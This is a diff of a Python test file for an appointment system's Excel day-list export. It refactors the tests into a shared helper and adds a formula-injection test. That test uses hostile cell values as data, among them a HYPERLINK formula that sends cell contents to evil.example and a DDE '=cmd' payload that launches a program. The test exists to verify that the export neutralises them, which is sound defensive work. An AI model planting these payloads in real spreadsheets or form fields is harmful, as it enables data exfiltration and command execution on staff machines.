@@ -337,36 +337,41 @@ async def test_only_staff_of_that_location_get_the_list(reporting: Reporting) ->
     assert (await bad.json())["error"]["details"][0]["field"] == "date"
 
 
-@pytest.mark.req("R22")
-def test_the_list_header_counts_one_appointment_in_the_singular() -> None:
+def one_day_list(groups: list[tuple[str, str]], **changes: Any) -> Any:
+    """The list of one appointment (at 09:00 in the entrance zone), with `changes` to the row."""
     start = berlin(DAY, 9)
-    row = DayListRow(
-        group_id="ez",
-        group_name="Eingangszone",
-        start=start,
-        end=start + timedelta(minutes=15),
-        service_point=1,
-        last_name="Adler",
-        first_name="Anna",
-        customer_number="123D456789",
-        household_number=None,
-        concern="Veränderungsmitteilung",
-        mode="in_person",
-        phone=None,
-        interpreter_language=None,
-        status="booked",
-        outcome=None,
-        reference="ABCD-EFGH",
-    )
+    fields: dict[str, Any] = {
+        "group_id": "ez",
+        "group_name": "Eingangszone",
+        "start": start,
+        "end": start + timedelta(minutes=15),
+        "service_point": 1,
+        "last_name": "Adler",
+        "first_name": "Anna",
+        "customer_number": "123D456789",
+        "household_number": None,
+        "concern": "Veränderungsmitteilung",
+        "mode": "in_person",
+        "phone": None,
+        "interpreter_language": None,
+        "status": "booked",
+        "outcome": None,
+        "reference": "ABCD-EFGH",
+    }
     content = build_day_list(
         location_id="mitte",
         location_name="Bremen-Mitte",
         day=DAY,
-        groups=[("ez", "Eingangszone"), ("lt1", "Leistungsteam 1")],
-        rows=[row],
+        groups=groups,
+        rows=[DayListRow(**{**fields, **changes})],
         generated_at=berlin(DAY, 6),
     )
-    wb = load_workbook(io.BytesIO(content))
+    return load_workbook(io.BytesIO(content))
+
+
+@pytest.mark.req("R22")
+def test_the_list_header_counts_one_appointment_in_the_singular() -> None:
+    wb = one_day_list([("ez", "Eingangszone"), ("lt1", "Leistungsteam 1")])
     assert " · 1 Termin (davon 0 storniert) · " in str(wb["Eingangszone"]["A3"].value)
     assert " · 0 Termine (davon 0 storniert) · " in str(wb["Leistungsteam 1"]["A3"].value)
 
@@ -374,37 +379,16 @@ def test_the_list_header_counts_one_appointment_in_the_singular() -> None:
 @pytest.mark.req("R22")
 def test_a_name_that_looks_like_a_formula_stays_text_in_the_list() -> None:
     """Formula injection: what a customer types as a name is shown, never run, when staff open the list."""
-    start = berlin(DAY, 9)
     typed = {
         "last_name": '=HYPERLINK("https://evil.example/?d="&A1,"Klick")',
         "first_name": "@SUM(1+1)",
         "concern": "+Veränderungsmitteilung",
         "reference": "-ABCD-EFGH",
+        "group_name": "=Eingangszone",
+        "household_number": "=1+1",
+        "interpreter_language": "=cmd|' /C calc'!A0",
     }
-    row = DayListRow(
-        group_id="ez",
-        group_name="=Eingangszone",
-        start=start,
-        end=start + timedelta(minutes=15),
-        service_point=1,
-        customer_number=None,
-        household_number="=1+1",
-        mode="in_person",
-        phone=None,
-        interpreter_language="=cmd|' /C calc'!A0",
-        status="booked",
-        outcome=None,
-        **typed,
-    )
-    content = build_day_list(
-        location_id="mitte",
-        location_name="Bremen-Mitte",
-        day=DAY,
-        groups=[("ez", "=Eingangszone")],
-        rows=[row],
-        generated_at=berlin(DAY, 6),
-    )
-    ws = load_workbook(io.BytesIO(content)).worksheets[0]
+    ws = one_day_list([("ez", "=Eingangszone")], **typed).worksheets[0]
     cells = [c for r in ws.iter_rows() for c in r if c.value is not None]
     assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
     shown = {str(c.value) for c in cells}
